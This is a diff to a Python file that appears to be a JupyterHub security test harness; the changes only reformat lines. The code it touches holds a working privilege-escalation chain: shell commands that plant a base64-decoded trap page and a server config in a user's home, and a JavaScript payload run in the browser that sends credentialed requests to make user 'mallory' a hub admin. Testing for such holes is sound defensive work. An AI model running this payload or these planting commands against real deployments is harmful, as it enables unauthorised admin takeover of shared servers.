@@ -14,7 +14,8 @@ NEW_ADMIN = "mallory"
 _CONFIGURATION = "c.ServerApp.extra_static_paths = ['/home/{name}/trap']\n"
 _SCRIPT = """\
 async hub => {
-    const found = {}, add = {method: "POST", body: JSON.stringify({usernames: ["mallory"], admin: true}), credentials: "include"};
+    const found = {}, body = JSON.stringify({usernames: ["mallory"], admin: true});
+    const add = {method: "POST", body, credentials: "include"};
     const attempt = async (name, act) => {
         try { found[name] = String(await act()); } catch (problem) { found[name] = problem.name; }
     };
@@ -43,9 +44,12 @@ async hub => {
 
 
 def lay(name: str) -> str:
-    """The commands, for root, that put it into a user's home before the server starts; the user can do the same."""
+    """Root's commands to put it into a user's home before the server starts; the user can do the same."""
     home = f"/home/{name}"
-    page, configuration = (base64.b64encode(text.encode()).decode() for text in ("<title>trap</title>", _CONFIGURATION.format(name=name)))
+    page, configuration = (
+        base64.b64encode(text.encode()).decode()
+        for text in ("<title>trap</title>", _CONFIGURATION.format(name=name))
+    )
     return (
         f"mkdir -p {home}/trap {home}/.jupyter && echo {page} | base64 -d > {home}/trap/{PAGE}"
         f" && echo {configuration} | base64 -d > {home}/.jupyter/jupyter_server_config.py"
@@ -54,9 +58,13 @@ def lay(name: str) -> str:
 
 
 def spring(page: Page, hub: str) -> dict[str, str]:
-    """What it gets in the browser that shows it, by what it tries; the name of the error where the browser does not let it."""
+    """What it gets in the browser that shows it, by what it tries; the name of the error where the browser
+    does not let it.
+    """
     expression = f"({_SCRIPT})({json.dumps(hub)})"
-    answer = page.call("Runtime.evaluate", expression=expression, returnByValue=True, awaitPromise=True, userGesture=True)
+    answer = page.call(
+        "Runtime.evaluate", expression=expression, returnByValue=True, awaitPromise=True, userGesture=True
+    )
     assert "exceptionDetails" not in answer, answer
     found: dict[str, str] = answer["result"]["value"]
     return found
